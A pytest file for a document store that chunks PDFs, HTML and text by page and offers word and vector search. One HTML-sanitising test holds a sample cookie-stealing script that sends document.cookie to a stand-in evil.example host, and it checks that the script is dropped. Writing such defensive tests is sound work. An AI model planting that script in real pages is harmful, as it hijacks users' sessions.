"""Analysts' documents on real PostgreSQL: reading PDFs, HTML and text into page-bounded
chunks, refusing what cannot be read, owner-only access, full-text and vector search (pgvector
where the server has it, the same ranking in process where it does not), chats' documents."""

from __future__ import annotations

import io
import uuid
from pathlib import Path

import pytest
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from core import documents, embeddings, retrieval, sessions
from core.errors import Conflict, InvalidInput, NotFound
from core.models import Document, DocumentChunk, SessionDocument
from tests.support import filings
from tests.support.people import make_user


@pytest.fixture
def ana(dbs: Session) -> uuid.UUID:
    return make_user(dbs, "ana").id


@pytest.fixture(scope="module")
def pdfs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return filings.build(tmp_path_factory.mktemp("filings"))


@pytest.fixture
def report(dbs: Session, ana: uuid.UUID, pdfs: dict[str, Path]) -> documents.DocumentInfo:
    raw = pdfs[filings.ANNUAL].read_bytes()
    return documents.add(dbs, user_id=ana, filename=filings.ANNUAL, data=raw).document


def count(dbs: Session, model: type) -> int:
    return int(dbs.scalar(select(func.count()).select_from(model)) or 0)


def test_a_pdf_is_stored_as_chunks_that_keep_their_page_and_heading(
    dbs: Session, report: documents.DocumentInfo
) -> None:
    assert (report.name, report.file_format, report.pages) == (filings.ANNUAL, "pdf", 14)
    rows = dbs.execute(
        select(DocumentChunk.page, DocumentChunk.heading, DocumentChunk.content)
        .where(DocumentChunk.document_id == report.id)
        .order_by(DocumentChunk.ordinal)
    ).all()
    assert report.chunk_count == len(rows) >= 14
    assert {page for page, _, _ in rows} == set(range(1, 15))
    pensions = [(h, c) for page, h, c in rows if page == 11]
    assert pensions[0][0] == "Pensions"
    assert "surplus of £27.6 million" in pensions[0][1]


def test_the_original_file_and_a_pages_text_come_back(
    dbs: Session, ana: uuid.UUID, report: documents.DocumentInfo, pdfs: dict[str, Path]
) -> None:
    assert (
        documents.content(dbs, user_id=ana, document=report.id) == pdfs[filings.ANNUAL].read_bytes()
    )
    page = documents.page_text(dbs, user_id=ana, document=report.id, page=10)
    assert page.startswith("Balance sheet and financing Net debt at 31 December 2025")
    assert "coupon of 5.35%, due in 2031" in page


def test_a_long_page_cut_into_chunks_reads_back_whole(dbs: Session, ana: uuid.UUID) -> None:
    words = [f"word{i}" for i in range(900)]
    body = "\n\n".join(" ".join(words[i : i + 60]) + "." for i in range(0, 900, 60))
    added = documents.add(dbs, user_id=ana, filename="long.md", data=body.encode()).document
    assert added.chunk_count > 5
    back = documents.page_text(dbs, user_id=ana, document=added.id, page=1)
    assert back == " ".join(body.split())


def test_the_same_file_twice_is_refused_naming_the_first(
    dbs: Session, ana: uuid.UUID, report: documents.DocumentInfo, pdfs: dict[str, Path]
) -> None:
    raw = pdfs[filings.ANNUAL].read_bytes()
    with pytest.raises(Conflict, match=f"already, as {filings.ANNUAL}"):
        documents.add(dbs, user_id=ana, filename="copy.pdf", data=raw)
    bob = make_user(dbs, "bob").id  # another user may upload the same file
    documents.add(dbs, user_id=bob, filename="mine.pdf", data=raw)
    assert count(dbs, Document) == 2


def _encrypted(raw: bytes) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(raw)))
    writer.encrypt(user_password="secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _scanned() -> bytes:
    """A PDF whose pages carry only drawings: no text layer, as a scan has none."""
    doc = FPDF()
    for _ in range(3):
        doc.add_page()
        doc.rect(20, 20, 100, 60, style="F")
    return bytes(doc.output())


@pytest.mark.parametrize(
    ("filename", "make", "message"),
    [
        ("locked.pdf", lambda raw: _encrypted(raw), "encrypted; upload an unprotected copy"),
        ("broken.pdf", lambda raw: raw[:400], "damaged and cannot be read"),
        ("noise.pdf", lambda raw: b"%PDF-1.7\n" + bytes(range(256)) * 4, "damaged"),
        ("scan.pdf", lambda raw: _scanned(), "none of its 3 pages has a text layer"),
        ("empty.txt", lambda raw: b"  \n", "the file is empty"),
        ("blank.html", lambda raw: b"<html><script>x()</script></html>", "no text in it"),
        ("sheet.xlsx", lambda raw: b"PK\x03\x04", "Ledger reads PDF, HTML, Markdown"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_the_reason_and_nothing_stored(
    dbs: Session,
    ana: uuid.UUID,
    pdfs: dict[str, Path],
    filename: str,
    make: object,
    message: str,
) -> None:
    raw = make(pdfs[filings.CALL].read_bytes())  # type: ignore[operator]
    with pytest.raises(InvalidInput, match=message):
        documents.add(dbs, user_id=ana, filename=filename, data=raw)
    assert count(dbs, Document) == count(dbs, DocumentChunk) == 0


def test_a_file_over_the_limit_is_refused_before_it_is_read(
    dbs: Session, ana: uuid.UUID, monkeypatch: pytest.MonkeyPatch
) -> None:
    from core.config import get_settings

    monkeypatch.setenv("DOCUMENT_UPLOAD_MAX_MB", "0.001")
    get_settings.cache_clear()
    try:
        with pytest.raises(InvalidInput, match=r"limit is 0.001 MB \(DOCUMENT_UPLOAD_MAX_MB\)"):
            documents.add(dbs, user_id=ana, filename="a.txt", data=b"x" * 2000)
    finally:
        monkeypatch.undo()
        get_settings.cache_clear()


def test_html_is_read_as_text_and_its_scripts_dropped(dbs: Session, ana: uuid.UUID) -> None:
    page = (
        b"<html><head><title>Q3 note</title><style>p{color:red}</style></head><body>"
        b"<h1>Margins</h1><p>Gross margin was 44.1%.</p>"
        b"<script>document.location='https://evil.example/?c='+document.cookie</script>"
        b'<p onclick="steal()">Net debt fell.</p></body></html>'
    )
    added = documents.add(dbs, user_id=ana, filename="note.html", data=page)
    assert added.notes == ["Scripts in the page were dropped; only its text is kept."]
    text = " ".join(dbs.scalars(select(DocumentChunk.content)))
    assert "Gross margin was 44.1%." in text and "Net debt fell." in text
    assert "evil" not in text and "cookie" not in text and "color" not in text
    assert dbs.scalar(select(DocumentChunk.heading)) == "Margins"


def test_documents_belong_to_their_owner(
    dbs: Session, ana: uuid.UUID, report: documents.DocumentInfo
) -> None:
    bob = make_user(dbs, "bob").id
    for call in (
        lambda: documents.get(dbs, user_id=bob, document=report.id),
        lambda: documents.content(dbs, user_id=bob, document=report.id),
        lambda: documents.page_text(dbs, user_id=bob, document=report.id, page=1),
        lambda: documents.delete(dbs, user_id=bob, document=report.id),
    ):
        with pytest.raises(NotFound, match=r"Document not found\."):
            call()
    assert documents.list_documents(dbs, user_id=bob) == []
    assert retrieval.search(dbs, user_id=bob, query="pension surplus").hits == []
    assert retrieval.search(dbs, user_id=ana, query="pension surplus").hits


def test_full_text_search_finds_the_page_and_marks_the_words(
    dbs: Session, ana: uuid.UUID, report: documents.DocumentInfo
) -> None:
    found = retrieval.search(dbs, user_id=ana, query="Is the pension scheme in surplus?")
    assert found.mode == "text"  # no embedder configured
    best = found.hits[0]
    assert (best.document, best.page, best.label) == (filings.ANNUAL, 11, f"{filings.ANNUAL} p. 11")
    assert "⟪pension⟫" in best.excerpt and "⟪surplus⟫" in best.excerpt
    assert retrieval.search(dbs, user_id=ana, query="what is the").hits == []  # stop words
    with pytest.raises(InvalidInput, match="Type some words"):
        retrieval.search(dbs, user_id=ana, query="   ")
    quoted = retrieval.search(dbs, user_id=ana, query="it's O'Brien's \\ & | ! (net debt)")
    assert quoted.hits[0].page == 10  # tsquery syntax in a question is only words


def test_full_text_search_answers_the_evaluation_set(
    dbs: Session, ana: uuid.UUID, pdfs: dict[str, Path]
) -> None:
    for name, path in pdfs.items():
        documents.add(dbs, user_id=ana, filename=name, data=path.read_bytes())
    found_at = []
    for question in filings.QUESTIONS:
        hits = retrieval.search(dbs, user_id=ana, query=question.text, limit=5).hits
        pages = [(h.document, h.page) for h in hits]
        found_at.append((question.document, question.page) in pages)
    assert len(filings.QUESTIONS) >= 40
    assert sum(found_at) / len(found_at) >= 0.9  # recall@5, the target


@pytest.mark.parametrize("server_side", [True, False], ids=["pgvector", "in-process"])
def test_vector_and_hybrid_search_with_an_embedder(
    dbs: Session,
    ana: uuid.UUID,
    pdfs: dict[str, Path],
    monkeypatch: pytest.MonkeyPatch,
    server_side: bool,
) -> None:
    embedder = embeddings.HashingEmbedder()
    if server_side and not retrieval.has_pgvector(dbs):
        pytest.skip("this PostgreSQL has no pgvector (the in-process case covers it)")
    if not server_side:
        monkeypatch.setattr(retrieval, "has_pgvector", lambda db: False)
    for name, path in pdfs.items():
        added = documents.add(
            dbs, user_id=ana, filename=name, data=path.read_bytes(), embedder=embedder
        )
        assert added.document.embedding_model == "hashing-256"
    query = "order backlog of the aerospace division"
    by_vector = retrieval.search(
        dbs, user_id=ana, query=query, mode="vector", embedder=embedder, limit=3
    )
    assert by_vector.mode == "vector"
    assert (by_vector.hits[0].document, by_vector.hits[0].page) == (filings.ANNUAL, 7)
    assert by_vector.hits[0].score > by_vector.hits[1].score
    hybrid = retrieval.search(dbs, user_id=ana, query=query, embedder=embedder, limit=3)
    assert hybrid.mode == "hybrid" and hybrid.hits[0].page == 7
    bob = make_user(dbs, "bob").id
    assert retrieval.search(dbs, user_id=bob, query=query, embedder=embedder).hits == []


def test_pgvector_and_the_in_process_ranking_agree(
    dbs: Session, ana: uuid.UUID, pdfs: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    if not retrieval.has_pgvector(dbs):
        pytest.skip("this PostgreSQL has no pgvector")
    embedder = embeddings.HashingEmbedder()
    for name, path in pdfs.items():
        documents.add(dbs, user_id=ana, filename=name, data=path.read_bytes(), embedder=embedder)

    def ranked() -> list[tuple[int, float]]:
        hits = retrieval.search(
            dbs, user_id=ana, query="dividend per share", mode="vector", embedder=embedder
        ).hits
        return [(h.chunk_id, round(h.score, 4)) for h in hits]

    on_server = ranked()
    monkeypatch.setattr(retrieval, "has_pgvector", lambda db: False)
    assert ranked() == on_server


def test_an_embedder_that_does_not_answer_leaves_word_search(
    dbs: Session, ana: uuid.UUID, pdfs: dict[str, Path]
) -> None:
    down = embeddings.OllamaEmbedder(host="http://127.0.0.1:9", model="nomic-embed-text", timeout=2)
    raw = pdfs[filings.NOTE].read_bytes()
    added = documents.add(dbs, user_id=ana, filename=filings.NOTE, data=raw, embedder=down)
    assert added.document.embedding_model is None
    assert "did not answer" in added.notes[0]
    found = retrieval.search(dbs, user_id=ana, query="price target rating", embedder=down)
    assert found.mode == "text" and found.hits[0].page == 1
    assert found.note is not None and "searched by their words alone" in found.note
    with pytest.raises(Exception, match="did not answer"):
        retrieval.search(dbs, user_id=ana, query="price target", mode="vector", embedder=down)


def test_progress_is_reported_page_by_page(
    dbs: Session, ana: uuid.UUID, pdfs: dict[str, Path]
) -> None:
    seen: list[tuple[str, int, int]] = []
    raw = pdfs[filings.CALL].read_bytes()
    documents.add(
        dbs, user_id=ana, filename=filings.CALL, data=raw, progress=lambda *a: seen.append(a)
    )
    assert [s for s in seen if s[0] == "reading"] == [("reading", n, 6) for n in range(1, 7)]
    assert seen[-1][0] == "indexing" and seen[-1][1] == seen[-1][2]


def test_chats_documents_and_deleting_a_document(
    dbs: Session, ana: uuid.UUID, report: documents.DocumentInfo
) -> None:
    chat = sessions.create(dbs, user_id=ana, title="Pensions", model="m")
    documents.attach(dbs, user_id=ana, session_id=chat.id, documents=[report.id])
    assert [d.id for d in documents.attached(dbs, user_id=ana, session_id=chat.id)] == [report.id]
    bob = make_user(dbs, "bob").id
    with pytest.raises(NotFound):
        documents.attach(dbs, user_id=bob, session_id=chat.id, documents=[report.id])
    documents.delete(dbs, user_id=ana, document=report.id)
    assert count(dbs, DocumentChunk) == count(dbs, SessionDocument) == count(dbs, Document) == 0
    assert documents.attached(dbs, user_id=ana, session_id=chat.id) == []
